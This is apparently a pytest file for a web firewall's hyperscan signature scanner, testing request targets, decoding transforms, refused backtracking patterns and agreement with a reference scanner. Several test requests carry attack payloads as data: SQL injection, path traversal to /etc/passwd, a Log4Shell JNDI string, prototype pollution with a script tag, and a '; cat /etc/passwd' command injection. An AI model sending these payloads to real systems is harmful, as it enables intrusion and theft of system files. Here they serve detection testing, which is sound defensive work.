"""The hyperscan signature scanner: targets, transforms, grouping and refused patterns."""

from __future__ import annotations

import json
import unicodedata
from pathlib import Path

import hyperscan
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from failsmall.build.corpus import parse_line
from failsmall.engine.request import Request, RequestView
from failsmall.engine.signatures import (
    SignatureCompileError,
    SignatureScanner,
    chain,
    target_values,
)
from failsmall.engine.signatures.targets import BODY_TARGETS
from failsmall.managed import managed_ruleset
from failsmall.managed.corpora import make_request
from failsmall.model.rules import SignatureMatch, Target, Transform

BENIGN = Path(__file__).resolve().parents[1] / "data" / "benign" / "benign.jsonl"


def sig(patterns: list[str], targets: list[Target], **fields: object) -> SignatureMatch:
    return SignatureMatch.model_validate(
        {"patterns": patterns, "targets": [t.value for t in targets], **fields}
    )


def scan(matches: dict[str, SignatureMatch], request: Request) -> frozenset[str]:
    return SignatureScanner.compile(matches).scan(RequestView(request))


def test_a_pattern_hits_only_its_targets() -> None:
    matches = {
        "in-args": sig(["evil"], [Target.ARG_VALUES]),
        "in-headers": sig(["evil"], [Target.HEADER_VALUES]),
    }
    request = make_request("GET", "/?q=evil", (("X-Note", "fine"),), b"")
    assert scan(matches, request) == {"in-args"}
    request = make_request("GET", "/?q=fine", (("X-Note", "evil"),), b"")
    assert scan(matches, request) == {"in-headers"}


def test_transforms_apply_before_matching() -> None:
    matches = {
        "decoded": sig(["<script"], [Target.ARG_VALUES], transforms=["url_decode"]),
        "raw": sig(["<script"], [Target.ARG_VALUES]),
    }
    request = make_request("GET", "/?q=%253Cscript%253E", (), b"")
    assert scan(matches, request) == {"decoded"}


def test_caseless_is_per_match() -> None:
    matches = {
        "caseless": sig(["select"], [Target.ARG_VALUES]),
        "exact": sig(["select"], [Target.ARG_VALUES], caseless=False),
    }
    assert scan(matches, make_request("GET", "/?q=SELECT", (), b"")) == {"caseless"}
    assert scan(matches, make_request("GET", "/?q=select", (), b"")) == {"caseless", "exact"}


def test_body_fields_of_every_form_are_targets() -> None:
    matches = {"name": sig(["^__proto__$"], [Target.BODY_ARG_NAMES])}
    json_body = make_request(
        "POST", "/", (("Content-Type", "application/json"),), b'{"a": {"__proto__": 1}}'
    )
    # JSON fields are named by their dotted path; the key itself is matched unanchored.
    assert scan({"name": sig(["__proto__"], [Target.BODY_ARG_NAMES])}, json_body) == {"name"}
    form = make_request(
        "POST", "/", (("Content-Type", "application/x-www-form-urlencoded"),), b"__proto__=1"
    )
    assert scan(matches, form) == {"name"}


def test_multipart_file_names_are_a_target() -> None:
    body = (
        b'--b\r\nContent-Disposition: form-data; name="f"; filename="shell.php"\r\n\r\n<?php\r\n'
        b"--b--\r\n"
    )
    request = make_request(
        "POST", "/", (("Content-Type", "multipart/form-data; boundary=b"),), body
    )
    matches = {"php": sig([r"\.php$"], [Target.FILENAMES])}
    assert scan(matches, request) == {"php"}


def test_cookie_header_is_matched_parsed_not_raw() -> None:
    request = make_request("GET", "/", (("Cookie", "a=1; onboarding=done"),), b"")
    matches = {
        "header": sig([r";\s*onboarding"], [Target.HEADER_VALUES]),
        "cookie": sig(["^onboarding$"], [Target.COOKIE_NAMES]),
    }
    assert scan(matches, request) == {"cookie"}


def test_a_backtracking_pattern_is_refused_with_a_clear_error() -> None:
    with pytest.raises(SignatureCompileError) as refused:
        SignatureScanner.compile(
            {
                "fine": sig(["union select"], [Target.ARG_VALUES]),
                "bad": sig(["ok", r"(a+)+\1"], [Target.ARG_VALUES]),
                "also-bad": sig([r"(?<=x)y"], [Target.PATH], transforms=["lowercase"]),
            }
        )
    problems = refused.value.problems
    assert len(problems) == 2
    assert problems[0].startswith("rule bad pattern 2: ")
    assert "Back-reference" in problems[0]
    assert problems[1].startswith("rule also-bad pattern 1: ")
    assert "linear-time" in str(refused.value)


def test_a_pattern_matching_the_empty_string_is_refused() -> None:
    with pytest.raises(SignatureCompileError) as refused:
        SignatureScanner.compile({"empty": sig(["a*"], [Target.PATH])})
    assert refused.value.problems[0].startswith("rule empty pattern 1: ")


def test_matches_sharing_a_transform_chain_share_it() -> None:
    scanner = SignatureScanner.compile(
        {
            "a": sig(["aa"], [Target.PATH], transforms=["lowercase"]),
            "b": sig(["bb"], [Target.ARG_VALUES], transforms=["lowercase"]),
            "c": sig(["cc"], [Target.ARG_VALUES]),
        }
    )
    assert scanner.chain_count == 2
    assert SignatureScanner.compile({}).scan(RequestView(make_request("GET", "/", (), b""))) == (
        frozenset()
    )


def test_non_ascii_patterns_match_as_utf8() -> None:
    matches = {"wide": sig(["＜script"], [Target.ARG_VALUES], transforms=["url_decode_uni"])}
    assert scan(matches, make_request("GET", "/?q=%uff1cscript", (), b"")) == {"wide"}
    # Lone surrogates from a JavaScript escape must not make the scan fail.
    lone = make_request("GET", "/?q=%5Cud800", (), b"")
    assert scan({"w": sig(["＜"], [Target.ARG_VALUES], transforms=["js_decode"])}, lone) == (
        frozenset()
    )


class Reference:
    """Rule by rule, target by target, value by value: one database per rule."""

    def __init__(self, matches: dict[str, SignatureMatch]) -> None:
        self.rules: list[tuple[str, SignatureMatch, hyperscan.Database]] = []
        for key, match in matches.items():
            base = hyperscan.HS_FLAG_DOTALL | hyperscan.HS_FLAG_SINGLEMATCH
            if match.caseless:
                base |= hyperscan.HS_FLAG_CASELESS
            wide = hyperscan.HS_FLAG_UTF8 | hyperscan.HS_FLAG_UCP
            flags = [base | (0 if p.isascii() else wide) for p in match.patterns]
            database = hyperscan.Database(mode=hyperscan.HS_MODE_BLOCK)
            database.compile(
                expressions=[p.encode() for p in match.patterns],
                flags=flags,
                ids=list(range(len(match.patterns))),
                elements=len(match.patterns),
            )
            self.rules.append((key, match, database))

    def hits(self, request: Request) -> set[str]:
        view = RequestView(request)
        hits: set[str] = set()
        for key, match, database in self.rules:
            transform = chain([Transform(t) for t in match.transforms])
            found: list[int] = []

            def on_match(*_: object, found: list[int] = found) -> None:
                found.append(1)

            for target in match.targets:
                for value in target_values(view, target):
                    # A value is matched as written and in its NFKC form.
                    for form in {value, unicodedata.normalize("NFKC", value)}:
                        data = transform(form).encode("utf-8", errors="replace")
                        if data:
                            database.scan(data, match_event_handler=on_match)
            if found:
                hits.add(key)
        return hits


def test_the_scanner_agrees_with_a_rule_by_rule_reference() -> None:
    matches = {r.id: r.match for r in managed_ruleset().rules if r.match is not None}
    scanner = SignatureScanner.compile(matches)
    lines = BENIGN.read_text(encoding="utf-8").splitlines()[::60]
    requests = [parse_line(json.loads(line), "benign")[0] for line in lines]
    requests += [
        make_request("GET", "/?id=1%27%20OR%201%3D1--%20", (), b""),
        make_request("GET", "/a/../../etc/passwd", (("User-Agent", "${jndi:ldap://x/a}"),), b""),
        make_request(
            "POST",
            "/c",
            (("Content-Type", "application/json"),),
            b'{"__proto__": {"x": "<script>alert(1)</script>"}, "q": "; cat /etc/passwd"}',
        ),
    ]
    reference = Reference(matches)
    for request in requests:
        assert scanner.scan(RequestView(request)) == reference.hits(request)


_MANAGED: list[SignatureScanner] = []


def managed_scanner() -> SignatureScanner:
    if not _MANAGED:
        matches = {r.id: r.match for r in managed_ruleset().rules if r.match is not None}
        _MANAGED.append(SignatureScanner.compile(matches))
    return _MANAGED[0]


header_text = st.text(st.characters(blacklist_categories=["Cs"]), max_size=40)


@settings(max_examples=150, deadline=None)
@given(
    path=st.text(max_size=40).map(lambda p: "/" + p),
    query=st.text(max_size=60),
    headers=st.lists(st.tuples(header_text, header_text), max_size=6),
    content_type=st.sampled_from(
        ["", "application/json", "application/x-www-form-urlencoded", "multipart/form-data; b=x"]
    ),
    body=st.binary(max_size=200),
)
def test_scanning_any_request_never_raises(
    path: str, query: str, headers: list[tuple[str, str]], content_type: str, body: bytes
) -> None:
    all_headers = (*headers, ("Content-Type", content_type), ("Cookie", query[:20]))
    request = Request(method="POST", path=path, query=query, headers=all_headers, body=body)
    assert isinstance(managed_scanner().scan(RequestView(request)), frozenset)


@settings(max_examples=100, deadline=None)
@given(
    content_type=st.sampled_from(
        ["", "application/json", "application/x-www-form-urlencoded", "multipart/form-data; b=x"]
    ),
    query=st.text(max_size=20),
)
def test_a_request_without_a_body_has_no_body_target_values(content_type: str, query: str) -> None:
    headers = (("Content-Type", content_type),)
    view = RequestView(Request(method="POST", path="/", query=query, headers=headers))
    assert all(target_values(view, target) == [] for target in BODY_TARGETS)


def test_identical_requests_are_answered_from_the_request_memo_with_the_same_hits() -> None:
    scanner = managed_scanner()
    request = make_request("GET", "/a/../../etc/passwd?q=1", (("User-Agent", "x"),), b"")
    first = scanner.scan(RequestView(request))
    assert first and scanner.scan(RequestView(request)) == first
    copy = make_request("GET", "/a/../../etc/passwd?q=1", (("User-Agent", "x"),), b"")
    assert scanner.scan(RequestView(copy)) == first
